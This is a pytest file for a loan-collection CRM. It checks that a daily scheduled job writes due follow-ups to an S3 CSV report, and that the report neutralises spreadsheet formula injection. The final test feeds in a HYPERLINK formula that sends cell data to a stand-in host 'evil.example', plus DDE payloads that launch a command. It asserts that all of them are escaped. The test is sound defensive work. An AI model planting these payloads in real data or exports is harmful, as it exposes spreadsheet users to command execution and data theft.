"""The daily schedule writes the day's follow-ups to the bucket as CSV."""

from __future__ import annotations

import csv
import io


def _interaction(world, kind, who, loan, day):
    body = {"loan": loan, "comment": f"{kind} by {who}", "disposition": "called" if kind == "calling" else "visited",
            "next_call_date": day}
    response = world.http.post(f"/api/interactions/{kind}/create/", body, world.as_(who))
    assert response.status_code == 201
    return response.json_body["id"]


def test_schedule_writes_todays_followups(world, client):
    from chalicelib.core import aws
    from chalicelib.core.config import get_settings
    from chalicelib.products.repaysync import reports

    today = reports.today().isoformat()
    due = [_interaction(world, "field", "officer", world.loans["officer"].id, today),
           _interaction(world, "calling", "agent", world.loans["other_officer"].id, today),
           _interaction(world, "field", "other_officer", world.loans["other_officer"].id, today)]
    _interaction(world, "field", "officer", world.loans["officer"].id, "2031-01-01")  # not due today
    event = client.events.generate_cw_event(source="aws.events", detail_type="Scheduled Event", detail={},
                                            resources=["arn:aws:events:us-east-1:123456789012:rule/daily"])
    result = client.lambda_.invoke("daily_followups", event)
    assert result.payload == {"key": f"reports/followups/{today}.csv", "rows": 3}
    body = aws.s3().get_object(Bucket=get_settings().bucket, Key=f"reports/followups/{today}.csv")["Body"].read()
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert sorted(int(row["interaction_id"]) for row in rows) == sorted(due)
    assert [row["owner_username"] for row in rows] == ["agent", "officer", "other_officer"]  # grouped per owner
    officer_row = rows[1]
    assert officer_row["customer_code"] == "CUST0" and officer_row["loan_account_number"] == "LN0"
    assert officer_row["interaction_type"] == "field" and officer_row["next_call_date"] == today


def test_empty_day_writes_a_header_only_report(client):
    from datetime import date

    from chalicelib.products.repaysync import reports

    assert reports.write_followups(date(2030, 1, 1)) == {"key": "reports/followups/2030-01-01.csv", "rows": 0}


def test_schedule_is_declared(app):
    product = app.crm_product
    assert {spec.name: spec.expression for spec in product.schedules} == {"daily_followups": "cron(30 2 * * ? *)"}
    from local.events import schedule_expressions

    assert schedule_expressions(app) == {"daily_followups": "cron(30 2 * * ? *)"}  # what infra and the runner read


def test_the_report_never_writes_a_formula(world, client):
    """Names, comments and phones people typed were written as is: `=HYPERLINK(...)` and DDE
    (`=cmd|...`) cells ran in the spreadsheet of whoever opened the report (issue 5)."""
    from chalicelib.core import aws
    from chalicelib.core.config import get_settings
    from chalicelib.products.repaysync import reports
    from tests.repaysync.conftest import customer_body, loan_body

    admin = world.as_("admin")
    name = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
    customer = world.http.post("/api/customers/", customer_body(
        name=name, phone="+91-9876543299", email="evil@example.com", customer_code="EVIL1",
        assigned_collection_officer=world.users["officer"].id), admin)
    assert customer.status_code == 201, customer.body
    loan = world.http.post("/api/loans/", loan_body(customer.json_body["id"], loan_account_number="LN-EVIL"), admin)
    assert loan.status_code == 201, loan.body
    today = reports.today().isoformat()
    comments = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1", "plain"]
    for comment in comments:
        created = world.http.post("/api/interactions/field/create/", {
            "loan": loan.json_body["id"], "comment": comment, "disposition": "visited", "next_call_date": today},
            world.as_("officer"))
        assert created.status_code == 201, created.body
    assert reports.write_followups()["rows"] == len(comments)
    body = aws.s3().get_object(Bucket=get_settings().bucket, Key=f"reports/followups/{today}.csv")["Body"].read()
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert sorted(row["comment"] for row in rows) == sorted(
        "'" + comment if comment[0] in "=+-@" else comment for comment in comments)
    assert {row["customer_name"] for row in rows} == {"'" + name}
    assert {row["customer_phone"] for row in rows} == {"'+91-9876543299"}
    assert all(row["interaction_id"].isdigit() and row["loan_id"].isdigit() for row in rows)  # numbers stay numbers
